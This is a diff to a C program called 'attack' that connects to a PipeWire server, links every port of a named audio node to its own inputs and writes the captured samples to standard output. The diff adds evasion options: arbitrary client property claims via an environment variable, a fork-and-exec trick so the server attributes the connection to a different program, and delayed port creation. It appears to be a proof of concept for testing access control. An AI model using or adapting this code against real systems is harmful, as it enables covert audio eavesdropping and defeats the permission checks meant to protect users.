@@ -1,11 +1,15 @@
 // A client that links itself to a node as fast as it can: attack NODE [MEDIA CLASS]
 // At each event of the registry it asks for a link from every port of the node to every port of its own. It needs no
-// session manager: its ports exist from the start. The samples go to standard output.
+// session manager: its ports exist from the start, or with ATTACK_LATER after the node. The samples go to standard
+// output. ATTACK_PROPERTIES are the claims of the client. With ATTACK_EXEC, a child uses the connection, and the process
+// that connected executes this program.
 #include <pipewire/filter.h>
 #include <pipewire/pipewire.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
 #include <unistd.h>
 
 static struct pw_filter *recorder;
@@ -21,7 +25,7 @@ static int portCount, attempts;
 
 static void record(void *unused, struct spa_io_position *position) {
   uint32_t count = position->clock.duration;
-  for (int channel = 0; channel < 2; channel++) {
+  for (int channel = 0; channel < 2 && inputs[1]; channel++) {
     float *samples = pw_filter_get_dsp_buffer(inputs[channel], count);
     if (samples == NULL) continue;
     int16_t result[8192];
@@ -69,27 +73,52 @@ static void appeared(void *unused, uint32_t id, uint32_t permissions, const char
   attack();
 }
 
-static void changed(void *unused, enum pw_filter_state old, enum pw_filter_state state, const char *error) { attack(); }
+static void addPorts(void) {
+  for (int channel = 0; channel < 2; channel++)
+    inputs[channel] = pw_filter_add_port(
+        recorder, PW_DIRECTION_INPUT, PW_FILTER_PORT_FLAG_MAP_BUFFERS, 0,
+        pw_properties_new(PW_KEY_FORMAT_DSP, "32 bit float mono audio", PW_KEY_PORT_NAME, channel ? "b" : "a", NULL), NULL, 0);
+}
+
+static void changed(void *unused, enum pw_filter_state old, enum pw_filter_state state, const char *error) {
+  if (state == PW_FILTER_STATE_PAUSED && inputs[0] == NULL) addPorts();
+  attack();
+}
+
+// The server takes this process for the client, although a child uses the connection.
+static int connectAndExecute(const char *program) {
+  struct sockaddr_un address = {.sun_family = AF_UNIX};
+  snprintf(address.sun_path, sizeof address.sun_path, "%s/pipewire-0", getenv("XDG_RUNTIME_DIR"));
+  int connection = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (connection < 0 || connect(connection, (struct sockaddr *)&address, sizeof address) < 0) exit(1);
+  if (fork() > 0) {
+    execl(program, program, "30", NULL);
+    exit(1);
+  }
+  alarm(6);
+  return connection;
+}
 
 static const struct pw_filter_events filterEvents = {PW_VERSION_FILTER_EVENTS, .process = record, .state_changed = changed};
 static const struct pw_registry_events registryEvents = {PW_VERSION_REGISTRY_EVENTS, .global = appeared};
 
 int main(int count, char **arguments) {
   struct spa_hook hooks[2] = {0};
+  const char *program = getenv("ATTACK_EXEC"), *claims = getenv("ATTACK_PROPERTIES");
+  int connection = program ? connectAndExecute(program) : -1;
   pw_init(NULL, NULL);
   target = arguments[1];
   struct pw_main_loop *loop = pw_main_loop_new(NULL);
-  core = pw_context_connect(pw_context_new(pw_main_loop_get_loop(loop), NULL, 0), NULL, 0);
+  struct pw_context *context = pw_context_new(pw_main_loop_get_loop(loop), NULL, 0);
+  struct pw_properties *properties = pw_properties_new_string(claims ? claims : "");
+  core = program ? pw_context_connect_fd(context, connection, properties, 0) : pw_context_connect(context, properties, 0);
   if (core == NULL) return 1;
   struct pw_registry *registry = pw_core_get_registry(core, PW_VERSION_REGISTRY, 0);
   pw_registry_add_listener(registry, &hooks[0], &registryEvents, NULL);
   recorder = pw_filter_new(core, "attack", pw_properties_new(PW_KEY_MEDIA_TYPE, "Audio", PW_KEY_MEDIA_CLASS,
                                                             count > 2 ? arguments[2] : "Stream/Input/Audio", NULL));
   pw_filter_add_listener(recorder, &hooks[1], &filterEvents, NULL);
-  for (int channel = 0; channel < 2; channel++)
-    inputs[channel] = pw_filter_add_port(
-        recorder, PW_DIRECTION_INPUT, PW_FILTER_PORT_FLAG_MAP_BUFFERS, 0,
-        pw_properties_new(PW_KEY_FORMAT_DSP, "32 bit float mono audio", PW_KEY_PORT_NAME, channel ? "b" : "a", NULL), NULL, 0);
+  if (!getenv("ATTACK_LATER")) addPorts();
   pw_filter_connect(recorder, PW_FILTER_FLAG_RT_PROCESS, NULL, 0);
   pw_main_loop_run(loop);
 }
